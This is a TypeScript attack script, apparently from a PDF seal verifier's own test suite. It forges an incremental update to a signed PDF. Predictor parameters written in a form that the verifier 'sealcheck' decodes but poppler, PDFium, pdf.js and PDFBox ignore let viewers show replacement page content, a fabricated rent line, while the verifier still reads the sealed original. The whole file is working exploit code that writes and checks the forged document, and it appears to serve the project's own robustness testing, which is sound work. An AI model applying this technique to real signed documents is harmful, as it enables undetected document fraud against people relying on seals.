// a21: an update re-states page 1's dictionary, value for value, in a new Flate object stream whose PNG predictor
// parameters are given in a form readers disagree on: /Filter [/FlateDecode] with /DecodeParms a dictionary (split),
// or /Filter /FlateDecode with /DecodeParms an array (wrapped). sealcheck's directFilters pairs them either way and
// un-predicts; poppler, PDFium and pdf.js (and PDFBox for split) take no parameters and read the inflated rows as
// they are, type bytes included. Rows of type 2 ("Up") then read differently: where sealcheck sees a comment,
// readers see "/Contents <new> 0 R /Resources <<...>>", and the sealed /Contents is in their comment.
//   npx tsx scripts/attack-s16/parms-objstm.ts <honest|split|wrapped>   REAL=0 for samples/valid (default: the real archive)
import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { save, show, tool, verify, work } from "../attack36/lib.js";
import { pdfiumAndPdfjs, printReaders, renderPage1 } from "../attack-s11/lib.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";

const mode = process.argv[2] ?? "split";
if (!["honest", "split", "wrapped"].includes(mode)) throw new Error("usage: <honest|split|wrapped>");
const REAL = process.env.REAL === "0" ? undefined : "test/fixtures/real/broker-example";
const AT = "2025-12-08T09:35:10Z";
const pdf = new Uint8Array(readFileSync(REAL ? `${REAL}/archive.pdf` : "samples/valid/archive.pdf"));

const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
if (!page.ref) throw new Error("page 1 is not an object");
const pageObj = view.object(page.ref);
if (pageObj?.value.kind !== "dict") throw new Error("page 1 is not a dictionary");
const alloc = new NumberAllocator(doc);
const [A, B, C] = [alloc.take(), alloc.take(), alloc.take()];

const latin = (s: string): number[] => [...Buffer.from(s, "latin1")];
const entries = [...pageObj.value.entries].map(([k, v]) => ({ k, text: `/${k} ${serialize(v)}` }));
const kept = entries.filter((e) => e.k !== "Contents" && e.k !== "Resources").map((e) => e.text);
const sealedTail = entries.filter((e) => e.k === "Contents" || e.k === "Resources").map((e) => e.text);
const header = `${page.ref.num} 0\n`;
const forged = `\n/Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> %`;
const sealed = `\n${sealedTail.join(" ")} %`;
const L = Math.max(header.length + `<< ${kept.join(" ")} %`.length, forged.length, sealed.length) + 8;
const pad = (s: string, fill = " "): number[] => {
  if (s.length > L) throw new Error("row too long");
  return latin(s + fill.repeat(L - s.length));
};
const space = pad("");
// The rows as sealcheck reads them (S) and as the inflated data holds them (X, type byte first).
const rowsS: number[][] = [
  pad(`${header}<< ${kept.join(" ")} %`), // 0: shared, a comment opens
  space, // 1: shared comment, the "Up" base
  pad(forged).map((b) => (b + 0x20) & 0xff), // 2: Up; X = forged (readers), S = forged + 0x20 (a comment to sealcheck)
  space, // 3: shared comment
  pad(sealed), // 4: Up; S = sealed keys (sealcheck), X = sealed − 0x20 (a comment to readers)
  pad("\n>>\n"), // 5: shared
];
const types = [0, 0, 2, 0, 2, 0];
const X: number[] = [];
rowsS.forEach((row, r) => {
  X.push(mode === "honest" ? 0 : types[r]!);
  if (mode === "honest" || types[r] === 0) X.push(...row);
  else X.push(...row.map((b, i) => (b - rowsS[r - 1]![i]!) & 0xff));
});
// Where one reading must stay inside a comment, its bytes hold no end of line.
if (mode !== "honest") {
  for (const [r, bytes] of [
    [2, rowsS[2]!],
    [4, X.slice(4 * (L + 1) + 1, 5 * (L + 1))],
  ] as const) {
    if (bytes.some((b) => b === 10 || b === 13)) throw new Error(`row ${r} ends a comment where it must not`);
  }
}
const data = deflateSync(Uint8Array.from(X));
const parms = `<< /Predictor 12 /Colors 1 /BitsPerComponent 8 /Columns ${L} >>`;
const filter =
  mode === "honest"
    ? `/Filter /FlateDecode /DecodeParms ${parms}`
    : mode === "split"
      ? `/Filter [/FlateDecode] /DecodeParms ${parms}`
      : `/Filter /FlateDecode /DecodeParms [${parms}]`;
console.log(
  `page 1 for sealcheck: ${JSON.stringify(
    Buffer.from(rowsS.flat())
      .toString("latin1")
      .replace(/[^\x20-\x7e\n]/g, "."),
  )}`,
);
console.log(
  `page 1 for readers: ${JSON.stringify(
    Buffer.from(X)
      .toString("latin1")
      .replace(/[^\x20-\x7e\n]/g, "."),
  )}`,
);

const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const last = doc.revisions.at(-1)!;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const offA = at;
push([
  ...latin(`${A} 0 obj\n<< /Type /ObjStm /N 1 /First ${header.length} ${filter} /Length ${data.length} >>\nstream\n`),
  ...data,
  ...latin("\nendstream\nendobj\n"),
]);
const offB = at;
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
const offC = at;
const row = (type: number, f2: number, f3: number) => [type, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
const rows = [row(2, A, 0), row(1, offA, 0), row(1, offB, 0), row(1, offC, 0)].flat();
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
push([
  ...latin(
    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 2] /Index [${page.ref.num} 1 ${A} 3] /Prev ${last.startxref} ${carried.join(" ")} /Length ${rows.length} >>\nstream\n`,
  ),
  ...rows,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const bytes = Uint8Array.from(parts.flat());
const dir = work(`s16-parms-objstm-${REAL ? "real-" : ""}${mode}`);
const file = save(dir, "archive.pdf", bytes);
console.log(`wrote ${file}`);
show(`parms-objstm ${mode}`, REAL ? verify(file, ["--at", AT], "", `${REAL}/trust`) : verify(file));
console.log(`== pdftotext p1: ${JSON.stringify(tool("pdftotext", ["-l", "1", file, "-"]).split("\n").filter(Boolean).slice(0, 2).join(" | "))}`);
printReaders(file);
for (const l of pdfiumAndPdfjs(file, 120)) console.log(`== ${l}`);
console.log(`== render: ${renderPage1(file, `${dir}/page1`)}`);
